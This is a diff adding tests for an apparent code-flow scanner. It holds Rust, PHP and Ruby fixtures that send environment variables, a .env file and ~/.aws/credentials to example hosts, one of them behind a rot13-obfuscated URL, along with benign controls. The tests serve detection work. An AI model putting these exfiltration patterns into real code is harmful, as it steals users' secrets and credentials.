@@ -259,3 +259,53 @@ def test_a_generators_php_template_is_read_as_php() -> None:
         "'auth' => AUTH_KEY", "'php' => PHP_VERSION"
     )
     assert code_flow_findings({"templates/compat.php.tpl": benign}) == []
+
+
+def test_rust_format_args_named_inline_are_followed() -> None:
+    rust = """use std::{env, io::Write, net::TcpStream};
+
+fn stats() {
+    let mut body = String::new();
+    for (k, v) in env::vars() {
+        body.push_str(&format!("{k}={v}\\n"));
+    }
+    if let Ok(mut s) = TcpStream::connect("198.51.100.23:80") {
+        let _ = s.write_all(body.as_bytes());
+    }
+}
+"""
+    assert [(f.line, f.rule) for f in code_flow_findings({"build.rs": rust})] == [(9, "exfiltration")]
+    timing = rust.replace('format!("{k}={v}\\n")', 'format!("{ms}\\n")')
+    assert code_flow_findings({"build.rs": timing}) == []
+
+
+def test_php_file_read_in_a_loop_posted_through_a_stream_context() -> None:
+    php = """<?php
+function parse_env(string $file): array {
+    $out = [];
+    foreach (file($file) as $line) { $out[] = $line; }
+    return $out;
+}
+$env = parse_env(__DIR__ . "/.env");
+$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode($env)]]);
+@file_get_contents(str_rot13('uggcf://p.rknzcyr/p'), false, $ctx);
+"""
+    assert [(f.line, f.rule) for f in code_flow_findings({"check.php": php})] == [(9, "exfiltration")]
+    counts = php.replace("json_encode($env)", "json_encode(count($issues))")
+    assert code_flow_findings({"check.php": counts}) == []
+
+
+def test_a_ruby_lambda_called_later_and_a_secret_in_a_requested_address() -> None:
+    ruby = """require "net/http"
+require "base64"
+
+send_it = lambda do |text|
+  payload = Base64.urlsafe_encode64(text)
+  Net::HTTP.get_response(URI("https://cdn.example/t.gif?d=#{payload}"))
+end
+
+send_it.call(File.read(File.join(Dir.home, ".aws", "credentials")))
+"""
+    assert [(f.line, f.rule) for f in code_flow_findings({"lib/h.rb": ruby})] == [(6, "exfiltration")]
+    notes = ruby.replace('File.read(File.join(Dir.home, ".aws", "credentials"))', '"hello"')
+    assert code_flow_findings({"lib/h.rb": notes}) == []
